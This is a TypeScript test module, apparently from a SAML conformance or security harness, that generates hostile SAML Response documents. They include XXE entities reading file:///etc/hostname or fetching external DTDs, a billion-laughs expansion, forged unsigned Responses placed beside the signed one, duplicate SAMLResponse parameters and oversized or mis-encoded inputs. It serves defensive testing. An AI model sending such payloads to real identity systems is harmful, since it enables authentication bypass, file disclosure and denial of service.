// What is not the document it should be: a DTD with all that comes of it, several roots, sizes and encodings. The
// signatures hold wherever a parser gets as far as to look at them.
import { deflateRawSync } from 'node:zlib';
import type { Bend } from '../saml-issuer.ts';
import { parseXml, writeXml } from '../xml.ts';
import { attacks, base64, type Context, type Draft, onlyAssertion, type SamlAnswer } from './attack.ts';
import { turnEvil, unsigned } from './wrapping.ts';

const noDtd = 'CWE-611, CWE-776: a message needs no DTD';
const resources = 'CWE-400: who is not known yet makes us work';
const wellFormed = 'XML 1.0 §2.1: one root';

const withDtd =
  (subset: string): Bend =>
  xml =>
    `<!DOCTYPE samlp:Response ${subset}>${xml}`;

/** The name of the person becomes an entity that stands for it. */
const nameAsEntity: Bend = (xml, { said }) =>
  `<!DOCTYPE samlp:Response [<!ENTITY who "${said.nameId}">]>${xml.replace(`>${said.nameId}<`, '>&who;<')}`;

/** Something in the part of a Response that is not signed. */
const withStatusDetail = (xml: string, content: string) =>
  xml.replace('</samlp:Status>', `<samlp:StatusDetail>${content}</samlp:StatusDetail></samlp:Status>`);

const withEntity =
  (declarations: string): Bend =>
  xml =>
    `<!DOCTYPE samlp:Response [${declarations}]>${withStatusDetail(xml, '<x>&x;</x>')}`;

const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY x${n} "${`&x${n + 1};`.repeat(10)}">`).join('');

const forgedResponse = (xml: string) => {
  const document = parseXml(xml);
  const response = document.documentElement;
  for (const signed of [response, ...Array.from(response.getElementsByTagNameNS('*', 'Assertion'))]) unsigned(signed);
  return writeXml(turnEvil(response));
};

const onItsOwnServer = ({ idp }: Context, path: string) => new URL(path, idp.entityId).href;

const bytes = (content: Buffer): SamlAnswer => content.toString('base64');

const drafts: Draft[] = [
  { name: 'a DOCTYPE', clause: noDtd, how: { finished: withDtd('') } },
  { name: 'an entity is declared', clause: noDtd, how: { finished: withDtd('[<!ENTITY x "y">]') } },
  { name: 'NameID is an entity', clause: noDtd, how: { finished: nameAsEntity } },
  {
    name: 'an external entity: a file',
    clause: noDtd,
    signs: onlyAssertion,
    how: { finished: withEntity('<!ENTITY x SYSTEM "file:///etc/hostname">') },
  },
  {
    name: 'an external entity: an address',
    clause: noDtd,
    signs: onlyAssertion,
    how: context => ({ finished: withEntity(`<!ENTITY x SYSTEM "${onItsOwnServer(context, '/external-entity')}">`) }),
  },
  {
    name: 'an external DTD',
    clause: noDtd,
    how: context => ({ finished: withDtd(`SYSTEM "${onItsOwnServer(context, '/external-dtd')}"`) }),
  },
  {
    name: 'an external parameter entity',
    clause: noDtd,
    how: context => ({
      finished: withDtd(`[<!ENTITY % x SYSTEM "${onItsOwnServer(context, '/parameter-entity')}"> %x;]`),
    }),
  },
  {
    name: 'a billion laughs',
    clause: noDtd,
    signs: onlyAssertion,
    how: { finished: withEntity(`<!ENTITY x "&x0;">${laughs}<!ENTITY x9 "ha">`) },
  },
  {
    name: 'a forged Response after the signed one',
    clause: wellFormed,
    how: { finished: xml => xml + forgedResponse(xml) },
  },
  {
    name: 'a forged Response before the signed one',
    clause: wellFormed,
    how: { finished: xml => forgedResponse(xml) + xml },
  },
  { name: 'text after the root', clause: wellFormed, how: { finished: xml => `${xml}text` } },
  { name: 'text before the root', clause: wellFormed, how: { finished: xml => `text${xml}` } },
  { name: 'cut off', clause: wellFormed, signature: 'broken', how: { finished: xml => xml.slice(0, -20) } },
  {
    name: 'an attribute twice',
    clause: 'XML 1.0 §3.1',
    signature: 'broken',
    how: { finished: xml => xml.replace(' Version="2.0"', ' Version="2.0" Version="2.0"') },
  },
  {
    name: 'nested 20000 deep',
    clause: resources,
    signs: onlyAssertion,
    how: { finished: xml => withStatusDetail(xml, `${'<x>'.repeat(20_000)}${'</x>'.repeat(20_000)}`) },
  },
  {
    name: 'ten megabytes of padding',
    clause: resources,
    signs: onlyAssertion,
    how: { finished: xml => withStatusDetail(xml, `<x>${' '.repeat(10_000_000)}</x>`) },
  },
  {
    name: '10000 attributes',
    clause: resources,
    signs: onlyAssertion,
    how: {
      finished: xml =>
        withStatusDetail(xml, `<x ${Array.from({ length: 10_000 }, (_, n) => `a${n}="${n}"`).join(' ')}/>`),
    },
  },
  {
    name: 'bytes that are not UTF-8',
    clause: 'XML 1.0 §4.3.3',
    signs: onlyAssertion,
    how: { finished: xml => withStatusDetail(xml, '<x>HERE</x>') },
    sent: xml => {
      const [before = '', after = ''] = xml.split('HERE');
      return bytes(Buffer.concat([Buffer.from(before), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(after)]));
    },
  },
  {
    name: 'ISO-8859-1, and says so',
    clause: 'one encoding, so that all readers see the same',
    control: 'characters beyond ASCII',
    lies: { attributes: { displayName: 'Søn' } },
    sent: xml => bytes(Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${xml}`, 'latin1')),
  },
  {
    name: 'UTF-16',
    clause: 'one encoding, so that all readers see the same',
    sent: xml => bytes(Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${xml}`, 'utf16le')),
  },
  {
    name: 'base64 with rubbish in it',
    clause: 'RFC 4648 §3.3',
    sent: xml => base64(xml).replace(/.{100}/g, line => `${line}!*`),
  },
  {
    name: 'base64 with more after its end',
    clause: 'RFC 4648 §3.3',
    control: 'white space after the root',
    // A multiple of three bytes less one, so that the end is marked by one sign of padding.
    sent: xml => `${base64(xml.padEnd(Math.ceil((Buffer.byteLength(xml) + 1) / 3) * 3 - 1))}AAAA`,
  },
  { name: 'not base64', clause: 'SAML bindings §3.5.4', sent: xml => xml },
  { name: 'nothing', clause: 'SAML bindings §3.5.4', signature: 'broken', sent: () => '' },
  {
    name: 'deflated, in a POST',
    clause: 'SAML bindings §3.5.4: only a redirect deflates',
    sent: xml => bytes(deflateRawSync(Buffer.from(xml))),
  },
  {
    name: 'SAMLResponse twice, the forged one last',
    clause: 'two readers may take one each',
    sent: xml => twice(base64(xml), base64(forgedResponse(xml))),
  },
  {
    name: 'SAMLResponse twice, the forged one first',
    clause: 'two readers may take one each',
    sent: xml => twice(base64(forgedResponse(xml)), base64(xml)),
  },
  {
    name: 'white space after the root',
    expected: 'accepted',
    clause: 'XML 1.0 §2.8',
    how: { finished: xml => `${xml}\n` },
  },
];

const twice = (first: string, second: string): SamlAnswer => [
  ['SAMLResponse', first],
  ['SAMLResponse', second],
];

export const documentAttacks = attacks('documents', drafts);
